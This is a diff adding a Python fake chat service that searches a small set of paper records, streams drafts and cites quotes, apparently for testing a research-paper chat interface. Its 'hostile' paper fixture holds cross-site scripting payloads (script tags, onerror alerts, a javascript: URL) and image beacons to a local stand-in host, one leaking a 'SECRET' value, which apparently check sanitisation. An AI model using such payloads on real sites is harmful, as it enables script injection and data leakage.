@@ -1,0 +1,170 @@
+"""A chat that behaves like the real one over a few papers: it searches, drafts word by word and verifies."""
+
+from __future__ import annotations
+
+import re
+import threading
+import time
+from collections.abc import Iterator, Mapping, Sequence
+from dataclasses import replace
+from typing import Any
+
+from rag.answer import Answer
+from rag.errors import ModelError
+from rag.events import Condensed, Drafted, Event, Retrieved, Verified
+from rag.types import Asked, Citation, Facet, Found, Paper, Passages, Query, Ranked, Sentence, Status, Verdict
+
+TRACER = Paper(
+    id="tracer",
+    title="AgenTracer: Who Is Inducing Failure in the LLM Agentic Systems?",
+    abstract=(
+        r"Pinpointing the step responsible for an error defines the task of \textbf{failure attribution}. "
+        r"Reasoning LLMs remain inadequate, with accuracy below $10\\%$. "
+        r"AgenTracer-8B outperforms giant LLMs by up to $18.18\\%$ on {Who\&When}. "
+        r"It costs $5 and $10 per run for $a_i * b_i$ agents."
+    ),
+    authors=("Guibin Zhang", "Junhao Wang", "Junjie Chen", "Wangchunshu Zhou"),
+    venue="ICLR 2026",
+    decision="Poster",
+    url="https://openreview.net/forum?id=tracer",
+)
+SCREEN = Paper(
+    id="screen",
+    title="NeuralOS: Towards Simulating Operating Systems via Neural Generative Models",
+    abstract=(
+        "We introduce **NeuralOS**, which simulates graphical interfaces of operating systems. "
+        + "It combines a recurrent network with a diffusion-based renderer. " * 12
+        + "The model is trained on Ubuntu XFCE recordings."
+    ),
+    authors=("Luke Rivard", "Sun Sun"),
+    venue="ICLR 2026",
+    decision="Poster",
+    url="https://openreview.net/forum?id=screen",
+)
+HOSTILE = Paper(
+    id="hostile",
+    title='<img src="http://127.0.0.1:9999/title.png"> Botnets ![t](http://127.0.0.1:9999/t.png)',
+    abstract=(
+        "Botnets <style>body{display:none}</style> spread <script>document.title='owned'</script> quickly "
+        '<div style="position:fixed;inset:0;background:url(http://127.0.0.1:9999/css)">over</div> networks '
+        "![x](http://127.0.0.1:9999/?q=SECRET) [![a](http://127.0.0.1:9999/a)](http://127.0.0.1:9999/b) "
+        r"${alert(1)}$ {{value}} $\text{<img src=x onerror=alert(1)>}$ <img src=x onerror=alert(2)>."
+    ),
+    authors=("<b>Mallory</b>",),
+    url="javascript:alert(1)",
+)
+SHELF = (TRACER, SCREEN, HOSTILE)
+
+_COMMON = re.compile("an?|and|by|does|do|how|is|its?|me|of|on|paper|show|tell|the|what|which|who|with")
+
+
+class ShelfChat:
+    """Keeps no conversation; one of it may serve many tabs.
+
+    A question with a word of `failures` fails after the first words of the draft; one with "break off" ends
+    without an answer. While `held` is set, drafts stop at that point.
+    """
+
+    def __init__(self, papers: Sequence[Paper] = SHELF, *, seconds_per_word: float = 0.0) -> None:
+        self.papers = {paper.id: paper for paper in papers}
+        self.seconds_per_word = seconds_per_word
+        self.failures: dict[str, Exception] = {
+            "overload": ModelError("The model is overloaded.", advice="Ask again in a minute."),
+            "bug": KeyError("secret"),
+        }
+        self.unreadable: set[str] = set()  # papers whose look-up fails
+        self.held = threading.Event()
+        self.asked: list[tuple[str, tuple[str, ...]]] = []  # each question with the questions before it
+
+    def stream(
+        self, question: str, *, where: Mapping[str, object] | None = None, turns: Sequence[Answer] = ()
+    ) -> Iterator[Event]:
+        """Condense, search, draft, verify."""
+        self.asked.append((question, tuple(turn.question for turn in turns)))
+        text = self._standing_alone(question, turns)
+        yield Condensed(Query(question, text, Asked(Facet.ANYTHING)))
+        wanted = {name: str(value) for name, value in (where or {}).items()}
+        papers = [
+            p for p in self.papers.values() if all(str(getattr(p, name)) == wanted[name] for name in wanted)
+        ]
+        answer = replace(self._answer(question, text, turns, papers), llm="shelf", embedding="none")
+        yield Retrieved(
+            Passages(tuple(Found(self.papers[r.paper_id], r.score, 0, 0) for r in answer.retrieved))
+        )
+        if answer.status == Status.ANSWERED:
+            yield from self._drafts(question, answer.text)
+        if "break off" not in question:
+            yield Verified(answer)
+
+    def paper(self, paper_id: str) -> Paper | None:
+        """The paper with this id."""
+        if paper_id in self.unreadable:
+            raise OSError("The disk is gone.")
+        return self.papers.get(paper_id)
+
+    def describe(self) -> Mapping[str, Any]:
+        """The shelf."""
+        return {"llm": "shelf", "embedding": "none", "index": {"papers": len(self.papers)}}
+
+    def _drafts(self, question: str, text: str) -> Iterator[Event]:
+        words = text.split(" ")
+        for count in range(1, len(words) + 1):
+            yield Drafted(" ".join(words[:count]))
+            time.sleep(self.seconds_per_word)
+            for word, failure in self.failures.items():
+                if count == 4 and word in question:
+                    raise failure
+            while count == 4 and self.held.is_set():
+                time.sleep(0.02)
+
+    @staticmethod
+    def _standing_alone(question: str, turns: Sequence[Answer]) -> str:
+        follows = re.match(r"and\b", question, re.IGNORECASE)
+        return (
+            f"{question} ({turns[-1].citations[0].title})"
+            if follows and turns and turns[-1].citations
+            else question
+        )
+
+    def _answer(self, question: str, text: str, turns: Sequence[Answer], papers: Sequence[Paper]) -> Answer:
+        if question.strip().lower() in ("hi", "hello", "thanks!"):
+            return Answer(question, text, Status.NO_ANSWER, "", "Hello! Ask me something about the papers.")
+        terms = [word for word in re.findall(r"\w+", text.lower()) if not _COMMON.fullmatch(word)]
+        ranked = sorted(papers, key=lambda paper: -_hits(paper, terms))
+        retrieved = tuple(Ranked(paper.id, paper.title, float(_hits(paper, terms))) for paper in ranked)
+        if not terms or not any(paper.score for paper in retrieved):
+            reason = "None of the papers says anything about this."
+            return Answer(question, text, Status.NO_ANSWER, reason, "", nearest=retrieved[:2])
+        return self._cited(
+            Answer(question, text, Status.ANSWERED, "", "", retrieved=retrieved), ranked[0], turns
+        )
+
+    def _cited(self, answer: Answer, paper: Paper, turns: Sequence[Answer]) -> Answer:
+        known = {citation.paper_id: citation.number for turn in turns for citation in turn.citations}
+        number = known.get(paper.id, max(known.values(), default=0) + 1)
+        parts = [match.span() for match in re.finditer(r"\S.*?[.](?=\s|$)", paper.abstract)][:3:2]
+        quotes = [paper.abstract[start:end] for start, end in parts]
+        start, end = parts[-1]
+        return replace(
+            answer,
+            text=" ".join(f"{quote} [{number}]" for quote in quotes),
+            sentences=tuple(Sentence(quote, (number,), Verdict.QUOTED) for quote in quotes),
+            citations=(
+                Citation(
+                    number,
+                    paper.id,
+                    paper.title,
+                    paper.authors,
+                    paper.url,
+                    quotes[-1],
+                    start,
+                    end,
+                    Verdict.QUOTED,
+                ),
+            ),
+        )
+
+
+def _hits(paper: Paper, terms: Sequence[str]) -> int:
+    text = f"{paper.title} {paper.abstract}".lower()
+    return sum(term in text for term in terms)
